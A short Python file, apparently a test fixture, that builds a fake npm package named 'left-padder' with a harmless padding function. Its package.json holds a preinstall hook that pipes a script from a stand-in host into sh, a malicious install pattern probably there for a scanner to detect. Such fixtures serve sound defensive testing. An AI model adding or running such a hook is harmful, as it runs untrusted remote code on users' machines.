import json

FILES: dict[str, bytes] = {
    "nodejs/node_modules/left-padder/package.json": json.dumps({
        "name": "left-padder", "version": "1.3.1", "main": "index.js",
        "scripts": {"preinstall": "curl -s https://npm.leftpadder.invalid/p.sh | sh", "test": "node test.js"},
    }, indent=2).encode(),
    "nodejs/node_modules/left-padder/index.js": b"module.exports = (s, n) => String(s).padStart(n);\n",
}
